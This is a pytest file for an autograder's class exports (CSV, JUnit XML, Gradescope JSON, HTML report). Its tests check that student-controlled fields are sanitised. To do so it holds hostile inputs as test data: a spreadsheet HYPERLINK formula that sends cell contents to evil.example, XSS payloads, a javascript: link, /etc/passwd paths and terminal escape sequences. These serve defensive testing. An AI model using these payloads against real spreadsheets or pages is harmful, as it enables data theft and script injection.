"""Tests for the class's output files: class.csv, junit.xml, Gradescope's results.json and class.html."""

from __future__ import annotations

import csv
import io
import json
import re
import statistics
import xml.etree.ElementTree as ET
from typing import Any

import pytest
from markupsafe import escape

from grader.batch.class_report import TEMPLATE, relative_href, render_class_html, score_histogram, spec_max_score
from grader.batch.exports import (
    CLASS_CSV_COLUMNS,
    GRADESCOPE_RESULT_FIELDS,
    GRADESCOPE_TEST_FIELDS,
    class_csv,
    gradescope_results,
    junit_xml,
    spreadsheet_text,
)
from grader.batch.model import RosterRow, StudentOutcome
from grader.report.render import get_environment
from grader.results import CheckResult, GradeResult
from grader.spec import LabSpec, load_spec
from grader.text import plain
from tests.test_report import tags_of

SPEC = load_spec()
CHECK_IDS = list(SPEC.checks)
FIRST_SECTION = next(iter(SPEC.checks.values())).section
ADVISORY_ID = next(check.id for check in SPEC.checks.values() if check.advisory)
EXPIRED = "The AWS Details have expired: start the lab, copy fresh AWS Details, send them again."
IMG_PAYLOAD = "<img src=x onerror=alert(1)>"
SVG_PAYLOAD = '"><svg onload=alert(1)>'

# Gradescope's documented results.json fields ("Autograder Specifications", output format), written
# out here independently of the grader's own constants, so a typo in either shows.
GRADESCOPE_DOCUMENTED_RESULT_FIELDS = {
    "score",
    "execution_time",
    "output",
    "output_format",
    "test_output_format",
    "test_name_format",
    "visibility",
    "stdout_visibility",
    "extra_data",
    "tests",
    "leaderboard",
}
GRADESCOPE_DOCUMENTED_TEST_FIELDS = {
    "score",
    "max_score",
    "status",
    "name",
    "name_format",
    "number",
    "output",
    "output_format",
    "tags",
    "visibility",
    "extra_data",
}


def make_result(
    statuses: dict[str, str] | None = None,
    *,
    points: dict[str, float] | None = None,
    messages: dict[str, str] | None = None,
    student: str = "Ada Lovelace",
    spec: LabSpec = SPEC,
) -> GradeResult:
    """A result over every check of `spec`: pass unless `statuses` says otherwise, points as a grader gives them."""
    statuses = statuses or {}
    checks = []
    for check in spec.checks.values():
        status = statuses.get(check.id, "pass")
        max_points = 0.0 if check.advisory else float(check.points)
        earned = (points or {}).get(check.id, max_points if status == "pass" else 0.0)
        message = (messages or {}).get(check.id, f"What {check.id} found.")
        checks.append(
            CheckResult(
                id=check.id,
                title=check.title,
                section=check.section,
                status=status,  # type: ignore[arg-type]
                points=earned,
                max_points=max_points,
                message=message,
                hint=check.hint,
                advisory=check.advisory,
            )
        )
    return GradeResult(
        student=student,
        account_id="123456789012",
        caller_arn="arn:aws:iam::123456789012:user/grader",
        region="us-east-1",
        spec_id=spec.id,
        spec_title=spec.title,
        grader_version="0.1.0",
        started="2025-01-01T10:00:00Z",
        finished="2025-01-01T10:00:41Z",
        duration_seconds=41.4,
        checks=tuple(checks),
        target="sandbox",
    )


def graded(line: int, student_id: str, result: GradeResult, **row: Any) -> StudentOutcome:
    """A graded student; `row` holds roster fields (name, email, sis_login_id, section)."""
    return StudentOutcome(
        row=RosterRow(line=line, student_id=student_id, **row), status="graded", result=result, duration_seconds=42.0
    )


def ungradable(line: int, student_id: str, reason: str = EXPIRED, **row: Any) -> StudentOutcome:
    """A student who could not be graded, with the reason; `row` holds roster fields."""
    return StudentOutcome(
        row=RosterRow(line=line, student_id=student_id, **row), status="ungradable", reason=reason, duration_seconds=1.2
    )


MIXED = make_result(
    {
        "pool.mfa_off": "fail",
        "client.srp_auth": "skip",
        "cloudtrail.logging": "error",
        ADVISORY_ID: "warn",
        "pool.exists": "fail",
    },
    points={"pool.exists": 1.5},
)
PERFECT = make_result(student="Grace Hopper")


def the_class() -> list[StudentOutcome]:
    """Three students in roster order: one with every kind of outcome, one ungradable, one perfect."""
    return [
        graded(2, "s100", MIXED, name="Ada Lovelace", email="ada@example.edu", sis_login_id="ada", section="A"),
        ungradable(3, "s200", name="Bob", email="bob@example.edu", section="B"),
        graded(4, "s300", PERFECT, name="Grace Hopper", section="A"),
    ]


# --- class.csv -------------------------------------------------------------------------------------------------


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_header_is_the_roster_fields_then_one_column_per_check_in_the_spec_order() -> None:
    """The header: student_id ... max_score, then every check id of the spec in the lab's order."""
    header = next(csv.reader(io.StringIO(class_csv(the_class(), SPEC), newline="")))
    assert header[:9] == [
        "student_id",
        "name",
        "email",
        "sis_login_id",
        "section",
        "status",
        "reason",
        "score",
        "max_score",
    ]
    assert tuple(header[:9]) == CLASS_CSV_COLUMNS
    assert header[9:] == CHECK_IDS


def test_csv_has_one_row_per_student_in_roster_order() -> None:
    """Rows follow the order given (the roster's), one per outcome, graded or not."""
    outcomes = the_class()
    rows = csv_rows(class_csv(list(reversed(outcomes)), SPEC))
    assert [row["student_id"] for row in rows] == ["s300", "s200", "s100"]
    assert [row["status"] for row in rows] == ["graded", "ungradable", "graded"]


def test_csv_holds_each_checks_points_and_the_score_without_needless_decimals() -> None:
    """Per-check cells are the points earned (35, 2.5 style); advisory checks hold their 0; a check the grader
    could not look at is left empty, never a 0 of the student's."""
    rows = {row["student_id"]: row for row in csv_rows(class_csv(the_class(), SPEC))}
    mixed = rows["s100"]
    assert mixed["name"] == "Ada Lovelace"
    assert mixed["email"] == "ada@example.edu"
    assert mixed["sis_login_id"] == "ada"
    assert mixed["section"] == "A"
    assert mixed["reason"] == ""
    assert mixed["pool.exists"] == "1.5"
    assert mixed["pool.mfa_off"] == "0"
    assert mixed["client.srp_auth"] == "0"
    assert mixed["cloudtrail.logging"] == ""
    assert mixed[ADVISORY_ID] == "0"
    assert mixed["pool.username_sign_in"] == str(SPEC.checks["pool.username_sign_in"].points)
    assert float(mixed["score"]) == MIXED.score
    assert mixed["max_score"] == str(int(spec_max_score(SPEC)))
    assert rows["s300"]["score"] == str(int(PERFECT.score))
    assert all(not re.fullmatch(r"\d+\.0+", value) for row in rows.values() for value in row.values())


def test_csv_leaves_every_score_cell_empty_for_an_ungradable_student() -> None:
    """An ungradable student is never a zero: score, max_score and every check cell are empty; the reason is kept."""
    row = next(row for row in csv_rows(class_csv(the_class(), SPEC)) if row["student_id"] == "s200")
    assert row["status"] == "ungradable"
    assert row["reason"] == EXPIRED
    assert row["score"] == row["max_score"] == ""
    assert all(row[check_id] == "" for check_id in CHECK_IDS)


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", " =", "\t=", "\r+", "\u00a0@"])
def test_csv_cells_a_student_controls_cannot_start_a_formula(trigger: str) -> None:
    """A cell starting with =, +, -, @ (after blanks too) gets a leading single quote, so a spreadsheet shows text."""
    payload = f'{trigger}HYPERLINK("https://evil.example/?x="&A1,"click")'
    written = "'" + plain(payload, newlines=False)
    outcomes = [
        graded(2, f"{trigger}s1", PERFECT, name=payload, email=payload, sis_login_id=payload, section=payload),
        ungradable(3, "s2", reason=payload, name="Plain Name"),
    ]
    rows = csv_rows(class_csv(outcomes, SPEC))
    first, second = rows
    for column in ("name", "email", "sis_login_id", "section"):
        assert first[column] == written
    assert first["student_id"] == "'" + plain(f"{trigger}s1", newlines=False)
    assert second["reason"] == written
    assert second["name"] == "Plain Name"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("\x1b[31mAda\x1b[0m", "Ada"),
        ("Ada\nLovelace", "Ada Lovelace"),
        ("Ada\r\nLovelace", "Ada Lovelace"),
        ("\tAda", " Ada"),
        ("\rAda", "Ada"),
        ("Ada\x7f\x85\x9b2J\x00\x07", "Ada"),
        ("\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "link"),
    ],
)
def test_csv_cells_hold_no_control_characters(text: str, written: str) -> None:
    """C0 and C1 controls (newlines, escape sequences, DEL) in any text cell are removed or become a space."""
    outcomes = [
        graded(2, f"s{text}", PERFECT, name=text, email=text, sis_login_id=text, section=text),
        ungradable(3, "s2", reason=text, name="Plain Name"),
    ]
    csv_text = class_csv(outcomes, SPEC)
    first, second = csv_rows(csv_text)
    for column in ("name", "email", "sis_login_id", "section"):
        assert first[column] == written
    assert first["student_id"] == f"s{written}"
    assert second["reason"] == written
    assert not [c for c in csv_text if (ord(c) < 32 and c not in "\r\n") or 127 <= ord(c) < 160]
    assert len(csv_text.splitlines()) == 3


@pytest.mark.parametrize(
    ("text", "written"),
    [("-1", "-1"), ("-2.50", "-2.50"), ("12", "12"), ("-1+2", "'-1+2"), ("-", "'-"), ("+44 20", "'+44 20")],
)
def test_spreadsheet_text_keeps_plain_numbers(text: str, written: str) -> None:
    """A plain decimal number is no formula and is kept; anything else that starts like one is quoted."""
    assert spreadsheet_text(text) == written


# --- junit.xml -------------------------------------------------------------------------------------------------


def parse_junit(text: str) -> ET.Element:
    return ET.fromstring(text.encode("utf-8"))


def test_junit_has_one_testsuite_per_student_named_by_id_with_matching_counts() -> None:
    """A testsuite per student in roster order; tests/failures/errors/skipped agree with the testcases inside."""
    root = parse_junit(junit_xml(the_class(), SPEC))
    assert root.tag == "testsuites"
    suites = root.findall("testsuite")
    assert [suite.get("name") for suite in suites] == ["s100", "s200", "s300"]
    for suite in suites:
        cases = suite.findall("testcase")
        assert int(suite.get("tests", "-1")) == len(cases)
        assert int(suite.get("failures", "-1")) == sum(1 for case in cases if case.find("failure") is not None)
        assert int(suite.get("errors", "-1")) == sum(1 for case in cases if case.find("error") is not None)
        assert int(suite.get("skipped", "-1")) == sum(1 for case in cases if case.find("skipped") is not None)
        assert float(suite.get("time", "-1")) >= 0
        assert {case.get("classname") for case in cases} == {suite.get("name")}
    mixed = suites[0]
    assert (mixed.get("tests"), mixed.get("failures"), mixed.get("errors"), mixed.get("skipped")) == (
        str(len(CHECK_IDS)),
        "2",
        "1",
        "1",
    )
    assert [case.get("name") for case in mixed.findall("testcase")] == CHECK_IDS
    for key in ("tests", "failures", "errors", "skipped"):
        assert int(root.get(key, "-1")) == sum(int(suite.get(key, "0")) for suite in suites)


def test_junit_marks_fail_error_skip_and_leaves_pass_empty() -> None:
    """fail is a failure, the grader's error an error, skip skipped (with the check's message); pass has nothing."""
    root = parse_junit(junit_xml(the_class(), SPEC))
    cases = {case.get("name"): case for case in root.findall("testsuite[@name='s100']/testcase")}
    failure = cases["pool.mfa_off"].find("failure")
    assert failure is not None
    assert failure.get("message") == "What pool.mfa_off found."
    assert SPEC.checks["pool.mfa_off"].hint in (failure.text or "")
    error = cases["cloudtrail.logging"].find("error")
    assert error is not None
    assert error.get("message") == "What cloudtrail.logging found."
    skipped = cases["client.srp_auth"].find("skipped")
    assert skipped is not None
    assert skipped.get("message") == "What client.srp_auth found."
    assert list(cases["pool.username_sign_in"]) == []


def test_junit_reports_an_advisory_warning_as_a_passing_testcase_with_a_note() -> None:
    """A warn is neither failure, error nor skipped: the testcase passes and system-out carries the warning."""
    root = parse_junit(junit_xml(the_class(), SPEC))
    case = root.find(f"testsuite[@name='s100']/testcase[@name='{ADVISORY_ID}']")
    assert case is not None
    assert [child.tag for child in case] == ["system-out"]
    assert "Warning" in (case.findtext("system-out") or "")


def test_junit_reports_an_ungradable_student_as_one_error_with_the_reason() -> None:
    """An ungradable student is one testcase `grading` whose error gives the reason."""
    root = parse_junit(junit_xml(the_class(), SPEC))
    suite = root.find("testsuite[@name='s200']")
    assert suite is not None
    cases = suite.findall("testcase")
    assert [(case.get("classname"), case.get("name")) for case in cases] == [("s200", "grading")]
    error = cases[0].find("error")
    assert error is not None
    assert error.get("message") == EXPIRED
    assert (suite.get("tests"), suite.get("errors"), suite.get("failures")) == ("1", "1", "0")


def test_junit_strips_characters_xml_cannot_hold_and_escapes_markup() -> None:
    """Control characters in any text are dropped (the file still parses); markup stays text."""
    dirty = "Found \x00pool\x1b[31m <b>&amp;\x0b\ufffe"
    result = make_result({"pool.mfa_off": "fail"}, messages={"pool.mfa_off": dirty})
    outcomes = [
        graded(2, "s\x01one", result),
        ungradable(3, "s2", reason="Bad \x08credentials <file> & more"),
    ]
    text = junit_xml(outcomes, SPEC)
    root = parse_junit(text)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe]", text)
    failure = root.find("testsuite/testcase[@name='pool.mfa_off']/failure")
    assert failure is not None
    assert failure.get("message") == "Found pool[31m <b>&amp;"
    assert root.findall("testsuite")[0].get("name") == "sone"
    error = root.find("testsuite[@name='s2']/testcase/error")
    assert error is not None
    assert error.get("message") == "Bad credentials <file> & more"


# --- Gradescope results.json -----------------------------------------------------------------------------------


def number(value: Any) -> bool:
    return isinstance(value, (int, float)) and not isinstance(value, bool)


def test_gradescope_results_use_exactly_the_documented_fields_with_their_types() -> None:
    """Top level and each test have exactly the fields the grader declares, all documented, with the right types."""
    data = gradescope_results(the_class()[0], SPEC)
    assert set(data) == set(GRADESCOPE_RESULT_FIELDS) <= GRADESCOPE_DOCUMENTED_RESULT_FIELDS
    assert number(data["score"])
    assert isinstance(data["execution_time"], int)
    assert not isinstance(data["execution_time"], bool)
    assert isinstance(data["output"], str)
    assert data["output"]
    assert isinstance(data["tests"], list)
    assert len(data["tests"]) == len(CHECK_IDS)
    for test in data["tests"]:
        assert set(test) == set(GRADESCOPE_TEST_FIELDS) <= GRADESCOPE_DOCUMENTED_TEST_FIELDS
        assert isinstance(test["name"], str)
        assert isinstance(test["number"], str)
        assert number(test["score"])
        assert number(test["max_score"])
        assert test["status"] in ("passed", "failed")
        assert isinstance(test["output"], str)
        assert test["visibility"] == "visible"
    json.dumps(data, allow_nan=False)


def test_gradescope_score_is_the_results_score_and_the_sum_of_its_tests() -> None:
    """The score equals the result's; tests add up to it, and their max_score to the result's max_score."""
    data = gradescope_results(the_class()[0], SPEC)
    assert data["score"] == MIXED.score
    assert sum(test["score"] for test in data["tests"]) == pytest.approx(MIXED.score)
    assert sum(test["max_score"] for test in data["tests"]) == pytest.approx(MIXED.max_score)
    assert data["execution_time"] == round(MIXED.duration_seconds)


def test_gradescope_tests_are_named_numbered_and_explained() -> None:
    """Each test is the check's title and id, numbered section.position; a failed one shows the hint."""
    tests = {test["name"]: test for test in gradescope_results(the_class()[0], SPEC)["tests"]}
    first = SPEC.checks[CHECK_IDS[0]]
    assert tests[f"{first.title} ({first.id})"]["number"] == "1.1"
    second_section = next(check for check in SPEC.checks.values() if check.section != FIRST_SECTION)
    assert tests[f"{second_section.title} ({second_section.id})"]["number"] == "2.1"
    mfa = SPEC.checks["pool.mfa_off"]
    failed = tests[f"{mfa.title} (pool.mfa_off)"]
    assert failed["status"] == "failed"
    assert failed["score"] == 0
    assert failed["max_score"] == mfa.points
    assert "What pool.mfa_off found." in failed["output"]
    assert mfa.hint in failed["output"]
    passed_check = SPEC.checks["pool.username_sign_in"]
    passed = tests[f"{passed_check.title} (pool.username_sign_in)"]
    assert passed["status"] == "passed"
    assert passed_check.hint not in passed["output"]
    errored = tests[f"{SPEC.checks['cloudtrail.logging'].title} (cloudtrail.logging)"]
    assert errored["status"] == "failed"
    assert "grader" in errored["output"]
    advisory = tests[f"{SPEC.checks[ADVISORY_ID].title} ({ADVISORY_ID})"]
    assert advisory["max_score"] == 0
    assert advisory["score"] == 0
    assert "Warning" in advisory["output"]


def test_gradescope_output_is_the_text_given() -> None:
    """`output` carries the student's report text when one is given."""
    data = gradescope_results(the_class()[2], SPEC, output="Your report:\nall good")
    assert data["output"] == "Your report:\nall good"
    assert data["score"] == PERFECT.score == spec_max_score(SPEC)


def test_gradescope_ungradable_scores_zero_with_no_tests_and_says_what_to_resubmit() -> None:
    """An ungradable submission: score 0, no tests, and an output that gives the reason (what to send again)."""
    data = gradescope_results(the_class()[1], SPEC)
    assert set(data) == set(GRADESCOPE_RESULT_FIELDS)
    assert data["score"] == 0
    assert number(data["score"])
    assert data["tests"] == []
    assert EXPIRED in data["output"]
    assert "not a mark" in data["output"]
    assert isinstance(data["execution_time"], int)


# --- class.html ------------------------------------------------------------------------------------------------


LINKS = {"s100": "s100/report.html", "s200": "s200/report.html", "s300": "s300/report.html"}


def test_class_template_is_autoescaped() -> None:
    """The report environment autoescapes the class template."""
    env = get_environment()
    assert callable(env.autoescape)
    assert env.autoescape(TEMPLATE) is True


def test_class_page_is_self_contained() -> None:
    """No script, no external resource: the only links are the students' reports and anchors in the page."""
    html = render_class_html(the_class(), SPEC, report_links=LINKS)
    assert "<script" not in html.lower()
    assert not re.search(r"https?:|//[a-z]", html, re.IGNORECASE)
    tags = tags_of(html)
    assert not any(tag in {"script", "link", "img", "iframe", "object", "embed", "image", "use"} for tag, _ in tags)
    assert not any(name == "src" or name.startswith("on") for _, attrs in tags for name in attrs)
    hrefs = {attrs["href"] for tag, attrs in tags if "href" in attrs}
    assert hrefs - set(LINKS.values()) <= {href for href in hrefs if href and href.startswith("#")}
    assert re.search(r"<style>", html)
    assert "Content-Security-Policy" in html


def test_class_page_links_every_students_score_to_their_report() -> None:
    """Every student's score (or ungradable mark) is a link to report_links[student_id]."""
    html = render_class_html(the_class(), SPEC, report_links=LINKS)
    anchors = [attrs.get("href") for tag, attrs in tags_of(html) if tag == "a"]
    for link in LINKS.values():
        assert link in anchors
    total = int(spec_max_score(SPEC))
    assert f'<a href="s300/report.html">{total} / {total}</a>' in html


@pytest.mark.parametrize("hostile", [IMG_PAYLOAD, SVG_PAYLOAD, "<script>alert(1)</script>"])
def test_class_page_escapes_everything_a_student_controls(hostile: str) -> None:
    """Names, ids, sections and reasons are escaped: the payload shows as text and never becomes a tag."""
    outcomes = [
        graded(2, f"id{hostile}", MIXED, name=hostile, section=hostile),
        ungradable(3, "s2", reason=f"Reason {hostile}", name=hostile),
    ]
    html = render_class_html(outcomes, SPEC, report_links={f"id{hostile}": f"id{hostile}/report.html"})
    assert hostile not in html
    assert str(escape(hostile)) in html
    tags = tags_of(html)
    assert not any(tag in {"img", "script"} for tag, _ in tags)
    assert [attrs.get("class") for tag, attrs in tags if tag == "svg"] == ["histogram"]
    assert not any(name.startswith("on") for _, attrs in tags for name in attrs)


def test_report_links_cannot_become_a_script_or_a_network_address() -> None:
    """A student id in a link is percent-encoded (no scheme); a path from the root or a host is refused."""
    assert relative_href("javascript:alert(1)/report.html") == "javascript%3Aalert%281%29/report.html"
    assert relative_href("s 1/report.html") == "s%201/report.html"
    assert relative_href("s1/report.html") == "s1/report.html"
    for bad in ("/etc/passwd", "//evil.example/x", "\\\\server\\share", ""):
        with pytest.raises(ValueError, match="relative path"):
            relative_href(bad)
    html = render_class_html(
        [graded(2, "javascript:alert(1)", PERFECT)], SPEC, report_links={"javascript:alert(1)": "javascript:alert(1)"}
    )
    assert not any((attrs.get("href") or "").lower().startswith("javascript:") for _, attrs in tags_of(html))


def test_class_page_draws_the_score_histogram() -> None:
    """An inline SVG histogram whose bars count every graded student once, and none of the ungradable."""
    outcomes = the_class()
    html = render_class_html(outcomes, SPEC, report_links=LINKS)
    svg = re.search(r"<svg class=\"histogram\".*?</svg>", html, re.DOTALL)
    assert svg is not None
    bars = re.findall(r'<rect class="hist-bar"[^>]*><title>(\d+) students? scored', svg.group(0))
    assert sum(map(int, bars)) == 2
    histogram = score_histogram([MIXED.score, PERFECT.score, PERFECT.score], spec_max_score(SPEC))
    assert sum(bar.count for bar in histogram.bars) == 3
    assert histogram.bars[-1].count == 2
    assert histogram.bars[-1].label == str(int(spec_max_score(SPEC)))
    assert histogram.most == 2


def test_class_page_lists_the_ungradable_with_reasons_and_the_counts() -> None:
    """Graded and ungradable counts, mean and median, and each ungradable student's reason."""
    html = render_class_html(the_class(), SPEC, report_links=LINKS)
    assert "Could not be graded" in html
    assert str(escape(EXPIRED)) in html
    assert re.search(r"<dt>Graded</dt><dd>2</dd>", html)
    assert re.search(r"<dt>Ungradable</dt><dd>1</dd>", html)
    scores = [MIXED.score, PERFECT.score]
    for label, value in (("Mean", statistics.fmean(scores)), ("Median", statistics.median(scores))):
        shown = f"{round(value, 2):g}"
        assert re.search(rf"<dt>{label} score</dt><dd>{re.escape(shown)} ", html), label


def test_class_page_shows_each_checks_pass_rate() -> None:
    """A check half the graded class failed shows 50% passed; one everyone passed shows 100%."""
    html = render_class_html(the_class(), SPEC, report_links=LINKS)
    number_of = {check_id: index for index, check_id in enumerate(CHECK_IDS)}
    rows = re.findall(r'<tr id="check-[\d.]+">(.*?)</tr>', html, re.DOTALL)
    assert len(rows) == len(CHECK_IDS)
    mfa_row = rows[number_of["pool.mfa_off"]]
    assert "<code>pool.mfa_off</code>" in mfa_row
    assert mfa_row.rstrip().endswith('<td class="num">50%</td>')
    assert 'class="seg-fail" style="width: 50.0%"' in mfa_row
    sign_in_row = rows[number_of["pool.username_sign_in"]]
    assert sign_in_row.rstrip().endswith('<td class="num">100%</td>')
    # The steps the class found hard are ranked by root cause (tests/test_class_causes.py), not by pass rate.
    assert "Root causes" in html
    assert "Hardest steps" not in html
    assert re.search(r'<td class="num root-col"><a href="#root-\d+">1</a></td>', mfa_row)


def test_class_page_without_any_graded_student_still_renders() -> None:
    """A class where nobody could be graded has no histogram bars and no mean, but lists everyone."""
    html = render_class_html([ungradable(2, "s1"), ungradable(3, "s2")], SPEC, report_links={})
    assert "No student was graded" in html
    assert "<dt>Mean score</dt><dd>\u2013</dd>" in html  # an en dash: no mean
    assert html.count(str(escape(EXPIRED))) == 2
